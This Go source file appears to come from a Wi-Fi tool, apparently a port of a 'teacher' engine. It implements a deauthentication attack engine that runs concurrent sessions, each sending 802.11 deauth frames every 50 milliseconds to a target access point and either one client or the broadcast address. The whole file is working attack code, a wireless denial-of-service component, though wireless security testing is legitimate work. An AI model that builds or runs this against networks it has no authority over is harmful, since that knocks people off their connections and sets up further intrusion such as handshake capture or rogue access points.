package injection

import (
	"context"
	"log"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/wmap-radio/internal/core/domain"
)

// packetInterval is the fixed delay between deauth frames in a session.
// The teacher's engine exposes this as a per-config field with jitter and
// reason-code fuzzing; this port narrows it to one fixed cadence and the
// single reason code spec §4.9 names, since nothing downstream of this
// package needs the extra knobs and domain.DeauthAttackConfig was kept to
// the fields spec §3 actually lists.
const packetInterval = 50 * time.Millisecond

const deauthReasonCode = 7 // Class 3 frame received from nonassociated station

var broadcastMAC = [6]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// DeauthEngine runs one or more concurrent deauth/disassoc attack
// sessions, grounded on the teacher's attack/deauth/engine.go
// AttackController: a session map keyed by uuid, each session driven by
// its own goroutine and stopped via context cancellation.
type DeauthEngine struct {
	transmitter *Transmitter
	logger      *log.Logger

	mu       sync.Mutex
	sessions map[string]*deauthSession
}

type deauthSession struct {
	state  domain.DeauthAttackState
	cancel context.CancelFunc
}

// NewDeauthEngine returns an engine that transmits through transmitter.
func NewDeauthEngine(transmitter *Transmitter, logger *log.Logger) *DeauthEngine {
	if logger == nil {
		logger = log.Default()
	}
	return &DeauthEngine{
		transmitter: transmitter,
		logger:      logger,
		sessions:    make(map[string]*deauthSession),
	}
}

// Start launches a new deauth session and returns its ID immediately; the
// attack runs until Stop is called or ctx is canceled.
func (e *DeauthEngine) Start(ctx context.Context, cfg domain.DeauthAttackConfig) string {
	id := uuid.New().String()
	sessionCtx, cancel := context.WithCancel(ctx)

	session := &deauthSession{
		state: domain.DeauthAttackState{
			ID:        id,
			Config:    cfg,
			Status:    domain.AttackRunning,
			StartedAt: time.Now(),
		},
		cancel: cancel,
	}

	e.mu.Lock()
	e.sessions[id] = session
	e.mu.Unlock()

	go e.run(sessionCtx, session)
	return id
}

func (e *DeauthEngine) run(ctx context.Context, session *deauthSession) {
	ticker := time.NewTicker(packetInterval)
	defer ticker.Stop()

	bssid := session.state.Config.TargetMAC
	station := session.state.Config.ClientMAC
	if session.state.Config.Type == domain.DeauthBroadcast {
		station = broadcastMAC
	}

	for {
		select {
		case <-ctx.Done():
			e.finish(session.state.ID, domain.AttackStopped)
			return
		case <-ticker.C:
			if err := e.transmitter.BroadcastDeauth(ctx, bssid[:], station[:], deauthReasonCode); err != nil {
				if ctx.Err() != nil {
					e.finish(session.state.ID, domain.AttackStopped)
					return
				}
				e.logger.Printf("injection: deauth session %s: %v", session.state.ID, err)
				e.finish(session.state.ID, domain.AttackFailed)
				return
			}
			e.mu.Lock()
			if s, ok := e.sessions[session.state.ID]; ok {
				s.state.PacketsSent++
			}
			e.mu.Unlock()
		}
	}
}

func (e *DeauthEngine) finish(id string, status domain.AttackStatus) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if s, ok := e.sessions[id]; ok {
		s.state.Status = status
	}
}

// Stop cancels a running session. It is a no-op if the session is not
// found or has already finished.
func (e *DeauthEngine) Stop(id string) {
	e.mu.Lock()
	session, ok := e.sessions[id]
	e.mu.Unlock()
	if !ok {
		return
	}
	session.cancel()
}

// Status returns the current state of session id, and whether it exists.
func (e *DeauthEngine) Status(id string) (domain.DeauthAttackState, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	session, ok := e.sessions[id]
	if !ok {
		return domain.DeauthAttackState{}, false
	}
	return session.state, true
}

// StopAll cancels every running session, used on radio mode teardown.
func (e *DeauthEngine) StopAll() {
	e.mu.Lock()
	sessions := make([]*deauthSession, 0, len(e.sessions))
	for _, s := range e.sessions {
		sessions = append(sessions, s)
	}
	e.mu.Unlock()
	for _, s := range sessions {
		s.cancel()
	}
}
